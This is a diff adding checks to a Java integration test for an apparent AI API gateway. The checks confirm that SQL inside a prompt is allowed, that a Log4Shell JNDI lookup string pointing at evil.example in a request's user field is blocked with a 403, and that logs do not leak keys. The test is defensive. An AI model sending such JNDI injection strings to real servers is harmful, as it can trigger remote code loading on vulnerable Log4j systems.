@@ -61,6 +61,14 @@ class DemoProcessTest {
             assertThat(leak.statusCode()).isEqualTo(200);
             assertThat(leak.body()).contains("Sure.").contains("secret_in_answer").endsWith("data: [DONE]\n\n").doesNotContain("AKIA");
 
+            HttpResponse<String> sqlInAPrompt = post(port, key, "/v1/chat/completions", ask("SELECT name FROM users; -- explain this query", false));
+            assertThat(sqlInAPrompt.statusCode()).as("SQL in a prompt is the model's business").isEqualTo(200);
+            HttpResponse<String> log4shell = post(port, key, "/v1/chat/completions",
+                    ask("SELECT name FROM users; -- explain this query", false).replace("{\"model\"", "{\"user\":\"${jndi:ldap://evil.example/a}\",\"model\""));
+            assertThat(log4shell.statusCode()).isEqualTo(403);
+            assertThat(log4shell.body()).contains("request_blocked").doesNotContain("jndi");
+            assertThat(Files.readString(dir.resolve("demo.out"))).contains("request_blocked");
+
             String providerKey = Files.readString(dir.resolve("data/mock-provider.key")).strip();
             assertThat(Files.readString(dir.resolve("demo.out"))).doesNotContain(providerKey);
             assertThat(Files.readString(dir.resolve("demo.err"))).doesNotContain(providerKey).doesNotContain(key).doesNotContain("Hello, Bastion");
